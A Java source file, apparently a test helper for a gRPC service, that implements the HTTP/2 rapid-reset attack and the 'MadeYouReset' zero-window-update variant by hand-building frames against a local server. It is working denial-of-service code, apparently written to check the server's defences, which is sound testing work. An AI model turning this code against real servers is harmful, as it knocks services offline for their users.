package io.hellogrpc.reliability;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;

/**
 * The HTTP/2 rapid-reset attack written frame by frame, as an attacker would: no grpc client in
 * between to drop a call cancelled before its stream exists. Each round is one HEADERS frame
 * opening a HelloService Channel call on a new stream and one RST_STREAM resetting it at once.
 * What the server sends back is read and dropped, so that its writes never hold it up.
 */
final class RapidResetAttacker implements AutoCloseable {
  private static final byte[] PREFACE =
      "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
  private static final int HEADERS = 0x1;
  private static final int RST_STREAM = 0x3;
  private static final int SETTINGS = 0x4;
  private static final int WINDOW_UPDATE = 0x8;
  private static final int END_HEADERS = 0x4;
  private static final int CANCEL = 0x8;

  private final Socket socket;
  private final OutputStream out;
  private final byte[] requestHeaders;
  private int nextStream = 1;

  RapidResetAttacker(int port) throws IOException {
    socket = new Socket(InetAddress.getByName("127.0.0.1"), port);
    socket.setTcpNoDelay(true);
    out = socket.getOutputStream();
    requestHeaders =
        literals(
            ":method", "POST",
            ":scheme", "http",
            ":path", "/hello.v1.HelloService/Channel",
            ":authority", "127.0.0.1:" + port,
            "content-type", "application/grpc",
            "te", "trailers");
    Thread drain = new Thread(this::drain, "attacker-reads");
    drain.setDaemon(true);
    drain.start();
    out.write(PREFACE);
    out.write(frame(SETTINGS, 0, 0, new byte[0]));
    out.flush();
  }

  /**
   * Opens and resets {@code streams} calls, in one write.
   *
   * @throws IOException once the server has cut the connection
   */
  void openAndReset(int streams) throws IOException {
    ByteArrayOutputStream batch = new ByteArrayOutputStream();
    for (int i = 0; i < streams; i++) {
      int stream = nextStream;
      nextStream += 2; // client streams are odd
      batch.writeBytes(frame(HEADERS, END_HEADERS, stream, requestHeaders));
      batch.writeBytes(frame(RST_STREAM, 0, stream, new byte[] {0, 0, 0, CANCEL}));
    }
    out.write(batch.toByteArray());
    out.flush();
  }

  /**
   * Opens {@code streams} calls, each followed by a WINDOW_UPDATE of zero on it, a protocol error
   * the server answers by resetting the stream itself ("MadeYouReset").
   *
   * @throws IOException once the server has cut the connection
   */
  void openWithZeroWindowUpdates(int streams) throws IOException {
    ByteArrayOutputStream batch = new ByteArrayOutputStream();
    for (int i = 0; i < streams; i++) {
      int stream = nextStream;
      nextStream += 2;
      batch.writeBytes(frame(HEADERS, END_HEADERS, stream, requestHeaders));
      batch.writeBytes(frame(WINDOW_UPDATE, 0, stream, new byte[] {0, 0, 0, 0}));
    }
    out.write(batch.toByteArray());
    out.flush();
  }

  /** How many calls were opened and reset so far. */
  int streams() {
    return (nextStream - 1) / 2;
  }

  private void drain() {
    byte[] sink = new byte[64 * 1024];
    try (InputStream in = socket.getInputStream()) {
      while (in.read(sink) != -1) {
        // dropped: the attacker does not care what the server says
      }
    } catch (IOException cut) {
      // the server cut the connection: the attack is over
    }
  }

  private static byte[] frame(int type, int flags, int stream, byte[] payload) {
    byte[] frame = new byte[9 + payload.length];
    frame[0] = (byte) (payload.length >>> 16);
    frame[1] = (byte) (payload.length >>> 8);
    frame[2] = (byte) payload.length;
    frame[3] = (byte) type;
    frame[4] = (byte) flags;
    frame[5] = (byte) (stream >>> 24);
    frame[6] = (byte) (stream >>> 16);
    frame[7] = (byte) (stream >>> 8);
    frame[8] = (byte) stream;
    System.arraycopy(payload, 0, frame, 9, payload.length);
    return frame;
  }

  /** HPACK "literal header field without indexing, new name", no Huffman: short names only. */
  private static byte[] literals(String... namesAndValues) {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    for (int i = 0; i < namesAndValues.length; i += 2) {
      block.write(0x00);
      for (String part : new String[] {namesAndValues[i], namesAndValues[i + 1]}) {
        byte[] bytes = part.getBytes(StandardCharsets.US_ASCII);
        block.write(bytes.length); // under 127: fits the 7-bit length prefix
        block.writeBytes(bytes);
      }
    }
    return block.toByteArray();
  }

  @Override
  public void close() throws IOException {
    socket.close();
  }
}
